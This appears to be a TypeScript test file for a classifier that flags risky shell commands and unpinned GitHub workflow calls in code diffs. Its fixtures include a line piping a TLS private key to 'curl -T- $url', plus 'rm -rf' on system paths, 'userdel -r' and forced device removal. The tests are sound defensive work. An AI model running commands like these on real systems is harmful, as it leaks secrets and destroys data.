import assert from 'node:assert/strict';
import { test } from 'node:test';
import { classify } from '../../../src/core/classify.ts';
import { defaultPolicy } from '../../../src/core/policy/index.ts';
import { createGrammars } from '../../../src/platform/grammars.ts';

const ctx = { grammars: createGrammars(), policy: defaultPolicy };
type File = { path: string; before: string | null; after: string | null };
const found = async (rule: string, ...files: File[]): Promise<number> =>
  (await classify(files, ctx)).findings.filter((f) => f.rule === rule).length;
const inScript = (before: string, after: string): Promise<number> =>
  found('destructive-command', { path: 'vpn.sh', before: `#!/bin/bash\n${before}`, after: `#!/bin/bash\n${after}` });

const key = '{\n  echo "<key>"\n  cat "/etc/openvpn/tls.key"\n} >>"$home/$client.ovpn"\n';

test('a command is the same whose path only leads deeper, and no other', async () => {
  const now = (from: string, to: string, of = key): Promise<number> => inScript(of, of.replace(from, to));
  assert.equal(await now('openvpn/tls', 'openvpn/server/tls'), 0);
  assert.equal(await now('openvpn/tls', 'ssl/tls'), 1, 'another folder');
  assert.equal(await now('openvpn/tls.key', 'openvpn/server/ca.key'), 1, 'another file');
  assert.equal(await now('openvpn/tls', 'openvpn/../ssl/tls'), 1, 'out of the folder again');
  assert.equal(await now('"/etc/openvpn/tls.key"', '/etc/openvpn/*/tls.key'), 1, 'of all folders');
  assert.equal(await inScript(key, key.replace('openvpn/tls', 'openvpn/server/tls').replace(/\} .*/, '}')), 1, 'shown');
  assert.equal(
    await inScript(key, key.replace('openvpn/tls', 'openvpn/server/tls').replace(/\} .*/, '} | curl -T- $url')),
    1,
    'sent',
  );
  const twice = key.replace(/(.*cat.*)tls.key"\n/, '$1server/tls.key"\n$1server/old/tls.key"\n');
  assert.equal(await inScript(key, twice), 1, 'one that is gone stands for one');
  const tree = 'rm -rf "/usr/lib/app/data"\n';
  assert.equal(await inScript(tree, 'rm -rf "/usr/lib/app"\n'), 1, 'wider');
  assert.equal(await inScript(tree, 'rm -rf "/usr/lib/systemd"\n'), 1, 'another tree');
});

const crontab =
  'if [[ -f /etc/crontab.orig ]]; then\n    ${SUDO} mv /etc/crontab /etc/crontab.old\n    echo done\nfi\n';
const moved = `restore() {\n${crontab.replace('${SUDO} ', '')}}\nrestore\n`;

test('a command is the same without sudo, under the conditions that it had', async () => {
  assert.equal(await inScript(crontab, moved), 0);
  assert.equal(await inScript(moved, crontab), 1, 'sudo is new');
  assert.equal(await inScript(crontab, moved.replace(/if .*\n|fi\n/g, '')), 1, 'without its condition');
  assert.equal(await inScript(crontab, moved.replace('-f /etc/crontab.orig', '-f /etc/crontab')), 1, 'another one');
  assert.equal(await inScript(crontab, moved.replace('echo', 'else\n echo').replace('-f', '! -f')), 1, 'turned round');
  assert.equal(await inScript(crontab, moved.replace(/ {4}(mv.*)\n.*\n/, '    true\nelse\n    $1\n')), 1, 'else');
  const asked = 'read -rp "Sure? " yes\n[[ $yes == y ]] || exit\n${SUDO} mv /etc/crontab /etc/crontab.old\n';
  assert.equal(await inScript(asked, asked.replace('${SUDO} ', '')), 0);
  assert.equal(await inScript(asked, 'mv /etc/crontab /etc/crontab.old\n'), 1, 'nobody is asked');
  const user = 'if ${SUDO} userdel -r app; then\n  echo gone\nfi\n';
  assert.equal(await inScript(user, user.replace('${SUDO} ', '')), 0);
  assert.equal(await inScript(user, user.replace('${SUDO} ', '').replace('app', '"$1"')), 1, 'another account');
});

test('a script that stood in a program is the same in a file of its own', async () => {
  const script = 'if [ ! -d "$BLOCK" ]; then\n\tdmsetup remove --force "$DM_NAME"\nfi\n';
  const program = 'package osd\n\nconst open = `\n';
  const go = { path: 'osd/spec.go', before: `${program}${script}\`\n`, after: `${program}\`\n` };
  const of = (after: string, before = go): Promise<number> =>
    found('destructive-command', before, { path: 'osd/open.sh', before: null, after: `#!/bin/bash\n${after}` });
  assert.equal(await of(script), 0);
  assert.equal(await of(script.replace(/if .*\n|fi\n/g, '')), 1, 'without its condition');
  assert.equal(await of(script.replace('DM_NAME', 'OTHER')), 1);
  assert.equal(await of(script, { ...go, after: go.before }), 1, 'it stays there');
  assert.equal(await of(script, { ...go, path: 'osd/README.md' }), 1, 'a text that nobody ran');
});

test('a called workflow is the same of another name, if its owner, its kind of ref and what it is given are', async () => {
  const call = (uses: string, more = ''): string =>
    `on: push\npermissions:\n  contents: read\n${more}jobs:\n  a:\n    uses: ${uses}\n    secrets: inherit\n`;
  const said = async (before: string, after: string): Promise<string[]> =>
    (await classify([{ path: '.github/workflows/a.yml', before, after }], ctx)).findings
      .filter((f) => f.rule === 'workflow-unpinned')
      .map((f) => f.tier);
  const old = call('org/flows/.github/workflows/a.yml@main');
  const now = 'org/.github/.github/workflows/b.yml';
  assert.deepEqual(await said(old, call(`${now}@main`)), []);
  assert.deepEqual(await said(old, call('other/flows/.github/workflows/a.yml@main')), ['high']);
  assert.deepEqual(await said(call('org/flows/.github/workflows/a.yml@v1'), call(`${now}@main`)), ['high']);
  assert.deepEqual(await said(old.replace(/ +secrets.*\n/, ''), call(`${now}@main`)), ['high']);
  assert.deepEqual(await said(old, `${call(`${now}@main`)}  b:\n    uses: ${now}@main\n`), ['medium'], 'once more');
  assert.deepEqual(await said(old, old.replace('read', 'read\n  issues: write')), ['medium'], 'given more');
  assert.deepEqual(await said(old, old.replace('read', 'write')), ['high'], 'may change code');
});
